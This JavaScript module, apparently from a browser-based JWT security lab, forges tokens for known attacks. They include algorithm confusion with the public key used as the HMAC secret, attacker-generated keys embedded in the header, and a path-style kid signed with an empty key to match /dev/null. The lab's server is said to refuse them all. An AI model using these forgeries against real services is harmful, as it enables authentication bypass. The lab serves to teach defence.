// Forged tokens for the attacks that come with keys: algorithm confusion, a key the token brings
// itself (jwk, jku), a kid that is a path or names no key. All are built in this browser from
// your real token; the server refuses every one (the Tamper lab shows its answer). Signatures
// are made with @noble/curves and @noble/hashes, which work on plain http too (WebCrypto does
// not); only an RSA key needs WebCrypto.
import { hmac } from "@noble/hashes/hmac.js";
import { sha256 } from "@noble/hashes/sha2.js";
import {
  base64UrlFromBytes,
  decodeToken,
  encodePart,
  splitToken,
} from "../../lib/jwt.js";
import { bytesFromBase64Url, hasWebCrypto } from "./verify.js";

const encoder = new TextEncoder();

// The start of a SubjectPublicKeyInfo (RFC 5280 §4.1) for the two key types whose public key is
// a fixed-size string: a P-256 point, uncompressed (RFC 5480), and an Ed25519 key (RFC 8410).
const SPKI_PREFIX = {
  "P-256": "3059301306072a8648ce3d020106082a8648ce3d030107034200",
  Ed25519: "302a300506032b6570032100",
};

function bytesFromHex(hex) {
  return Uint8Array.from(hex.match(/../g), (byte) => Number.parseInt(byte, 16));
}

function pem(der) {
  const lines = btoa(String.fromCharCode(...der)).match(/.{1,64}/g);
  return `-----BEGIN PUBLIC KEY-----\n${lines.join("\n")}\n-----END PUBLIC KEY-----\n`;
}

/**
 * A public JWK as PEM text (SubjectPublicKeyInfo), the form a server reads its public key from
 * a file in. RSA needs WebCrypto to encode it; then null without it.
 */
export async function publicKeyPem(jwk) {
  if (jwk.kty === "EC" && jwk.crv === "P-256") {
    const point = [
      4,
      ...bytesFromBase64Url(jwk.x),
      ...bytesFromBase64Url(jwk.y),
    ];
    return pem([...bytesFromHex(SPKI_PREFIX["P-256"]), ...point]);
  }
  if (jwk.kty === "OKP" && jwk.crv === "Ed25519") {
    return pem([
      ...bytesFromHex(SPKI_PREFIX.Ed25519),
      ...bytesFromBase64Url(jwk.x),
    ]);
  }
  if (jwk.kty === "RSA" && hasWebCrypto()) {
    const { kty, n, e } = jwk;
    const key = await crypto.subtle.importKey(
      "jwk",
      { kty, n, e },
      { name: "RSASSA-PKCS1-v1_5", hash: "SHA-256" },
      true,
      ["verify"],
    );
    return pem(new Uint8Array(await crypto.subtle.exportKey("spki", key)));
  }
  return null;
}

function hs256(signingInput, key) {
  return base64UrlFromBytes(
    hmac(
      sha256,
      typeof key === "string" ? encoder.encode(key) : key,
      encoder.encode(signingInput),
    ),
  );
}

/** Algorithm confusion: the same payload, header "HS256", HMAC keyed with the public key's PEM. */
export function signedWithPublicKeyAsSecret(token, publicPem) {
  const { payload } = splitToken(token);
  const { kid } = decodeToken(token).header;
  const input = `${encodePart({ alg: "HS256", typ: "JWT", kid })}.${payload}`;
  return `${input}.${hs256(input, publicPem)}`;
}

/**
 * A key of the attacker's own for `alg`, made in this browser: {jwk (public), sign(input)}.
 * Null for RS256 without WebCrypto.
 */
export async function attackerKey(alg) {
  if (alg === "ES256") {
    const { p256 } = await import("@noble/curves/nist.js");
    const { secretKey } = p256.keygen();
    const point = p256.getPublicKey(secretKey, false); // 0x04, x, y
    return {
      jwk: {
        kty: "EC",
        crv: "P-256",
        x: base64UrlFromBytes(point.slice(1, 33)),
        y: base64UrlFromBytes(point.slice(33)),
      },
      sign: (input) =>
        base64UrlFromBytes(p256.sign(encoder.encode(input), secretKey)),
    };
  }
  if (alg === "EdDSA") {
    const { ed25519 } = await import("@noble/curves/ed25519.js");
    const { secretKey, publicKey } = ed25519.keygen();
    return {
      jwk: { kty: "OKP", crv: "Ed25519", x: base64UrlFromBytes(publicKey) },
      sign: (input) =>
        base64UrlFromBytes(ed25519.sign(encoder.encode(input), secretKey)),
    };
  }
  if (alg === "HS256") {
    const secret = crypto.getRandomValues(new Uint8Array(32));
    return {
      jwk: { kty: "oct", k: base64UrlFromBytes(secret) },
      sign: (input) => hs256(input, secret),
    };
  }
  if (alg === "RS256" && hasWebCrypto()) {
    const algorithm = { name: "RSASSA-PKCS1-v1_5", hash: "SHA-256" };
    const pair = await crypto.subtle.generateKey(
      {
        ...algorithm,
        modulusLength: 2048,
        publicExponent: new Uint8Array([1, 0, 1]),
      },
      true,
      ["sign", "verify"],
    );
    const { kty, n, e } = await crypto.subtle.exportKey("jwk", pair.publicKey);
    return {
      jwk: { kty, n, e },
      sign: async (input) =>
        base64UrlFromBytes(
          new Uint8Array(
            await crypto.subtle.sign(
              algorithm,
              pair.privateKey,
              encoder.encode(input),
            ),
          ),
        ),
    };
  }
  return null;
}

/** The token's payload under `header`, signed by `key` (an attackerKey). */
export async function signedWithKeyOf(key, header, token) {
  const input = `${encodePart(header)}.${splitToken(token).payload}`;
  return `${input}.${await key.sign(input)}`;
}

/** Header fields changed (the rest kept), and the original signature kept. */
export function withHeader(token, changes) {
  const { payload, signature } = splitToken(token);
  const { header } = decodeToken(token);
  return `${encodePart({ ...header, ...changes })}.${payload}.${signature}`;
}

/** Header fields changed and an HS256 signature with an empty key (what /dev/null holds). */
export function withHeaderSignedWithEmptyKey(token, changes) {
  const { payload } = splitToken(token);
  const { header } = decodeToken(token);
  const input = `${encodePart({ ...header, ...changes })}.${payload}`;
  return `${input}.${hs256(input, new Uint8Array(0))}`;
}
